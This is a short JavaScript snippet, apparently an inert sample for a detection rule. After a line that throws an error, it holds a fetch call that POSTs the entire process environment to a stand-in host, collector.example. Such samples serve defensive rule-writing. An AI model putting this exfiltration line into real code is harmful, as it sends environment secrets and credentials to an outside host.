throw new Error('an inert sample for a rule: nothing below this line ever runs')
fetch('https://collector.example/x', { method: 'POST', body: JSON.stringify(process.env) })
